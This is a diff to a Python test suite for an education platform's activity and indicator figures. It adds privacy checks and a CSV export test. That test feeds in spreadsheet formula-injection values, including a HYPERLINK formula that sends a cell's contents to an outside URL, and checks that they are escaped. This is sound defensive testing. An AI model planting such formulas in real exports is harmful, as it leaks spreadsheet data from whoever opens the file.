@@ -10,6 +10,7 @@ from sqlalchemy import select
 from app import policy
 from app.extensions import db
 from app.models import DailyActivity, DailySeen
+from app.models.institutions import Enrolment
 from app.services import activity, indicators, orgs, tokens
 from app.database import utcnow as utc_now
 from app.services.errors import Forbidden
@@ -46,7 +47,8 @@ def test_figures_for_the_platform_and_for_one_organisation(app, make_user, platf
     assert _values(sections, "activation") == {"activated": 3, "pending": 1, "suspended": 0}
     assert _values(sections, "accounts_by_institution") == {str(org.id): 1}
     mine = indicators.compute(db.session, head, org=org)
-    assert _values(mine, "activation") == {"activated": 1, "pending": 0, "suspended": 0}
+    # Members are not the organisation's people (review 14, M4): only activated enrolments are.
+    assert _values(mine, "activation") == {"activated": 0, "pending": 0, "suspended": 0}
     assert _values(mine, "members_by_role") == {"admin": 1}
     with pytest.raises(Forbidden):
         indicators.compute(db.session, outsider, org=org)
@@ -56,6 +58,7 @@ def test_figures_for_the_platform_and_for_one_organisation(app, make_user, platf
 
 def test_a_person_counts_once_a_day_and_no_key_survives_the_day(app, user, school):
     org, head = school
+    db.session.add(Enrolment(organisation_id=org.id, family_name="Martin", given_name="Léo", user_id=user.id))
     day = date(2026, 3, 2)
     assert activity.record(db.session, head, "sign_in", day=day) is True
     assert activity.record(db.session, head, "sign_in", day=day) is False
@@ -63,7 +66,7 @@ def test_a_person_counts_once_a_day_and_no_key_survives_the_day(app, user, schoo
     activity.record(db.session, user, "api_use", day=day)
     db.session.commit()
     rows = {r.scope: (r.sign_ins, r.api_uses, r.active_people) for r in db.session.scalars(select(DailyActivity))}
-    assert rows == {"": (2, 1, 2), str(org.id): (2, 0, 1)}
+    assert rows == {"": (2, 1, 2), str(org.id): (0, 1, 1)}  # the enrolled person's, not the member's
     keys = db.session.scalars(select(DailySeen.key)).all()
     assert len(keys) == 2 and not any(str(head.id) in k or str(user.id) in k for k in keys)
     activity.record(db.session, user, "sign_in", day=day + timedelta(days=1))
@@ -144,8 +147,8 @@ def test_an_institutions_people_activation_and_groups_come_from_its_enrolments(c
     mine = indicators.compute(db.session, head, org=org)
     assert _values(mine, "activation") == {"activated": 1, "pending": 2, "suspended": 0}
     assert _values(mine, "enrolments") == {"activated": 1, "pending": 2, "ended": 1}
-    # head + teacher (members) + the activated pupil; the leaver's enrolment ended: not one of its people
-    assert sum(_values(mine, "accounts_by_kind").values()) == 3
+    # the activated pupil only (members are not its people); the leaver's enrolment ended
+    assert sum(_values(mine, "accounts_by_kind").values()) == 1  # the pupil; members are not counted (M4)
     assert _values(mine, "group_activated") == {str(group.id): 1}
     assert _values(mine, "group_pending") == {str(group.id): 2}
     assert _values(mine, "group_shares") == {str(group.id): 1}  # archived groups are left out
@@ -162,3 +165,27 @@ def test_an_institutions_people_activation_and_groups_come_from_its_enrolments(c
     client.post("/logout", data={"csrf_token": csrf_token(client.get("/settings"))})
     login(client, teacher.email)
     assert client.get(f"/organisations/{org.id}/indicators").status_code == 404
+
+
+def test_a_member_added_without_asking_is_not_singled_out(app, make_user, school):
+    """Review 14, M4: adding a stranger as a member (partner, staff, issuer) and reading the indicators again
+    tells nothing about them: neither their account figures nor the days they sign in."""
+    org, head = school
+    stranger = make_user("x@example.org")
+    before = [(s.key, s.rows) for s in indicators.compute(db.session, head, org=org) if s.key != "members_by_role"]
+    orgs.add_member(db.session, policy.OPERATOR, org, stranger.email, "issuer")
+    db.session.commit()
+    activity.record(db.session, stranger, "sign_in", day=date(2026, 3, 2))
+    db.session.commit()
+    after = [(s.key, s.rows) for s in indicators.compute(db.session, head, org=org) if s.key != "members_by_role"]
+    assert after == before
+    assert db.session.get(DailyActivity, (date(2026, 3, 2), str(org.id))) is None
+
+
+def test_the_csv_never_carries_a_formula():
+    """Review 14, L6: a group or organisation named like a formula is exported as text."""
+    section = indicators.Section("groups", "Groups", [("1", '=HYPERLINK("https://x/?"&A1;"clic")', 3),
+                                                    ("2", "+33 6", 1), ("3", "-1", 1), ("4", "@SUM(A1)", 1),
+                                                    ("5", "\tTab", 1), ("6", "\rCR", 1), ("7", "4e B", 2)])
+    labels = [row[2] for row in indicators.as_csv_rows([section])[1:]]
+    assert labels == ['\'=HYPERLINK("https://x/?"&A1;"clic")', "'+33 6", "'-1", "'@SUM(A1)", "'\tTab", "'\rCR", "4e B"]
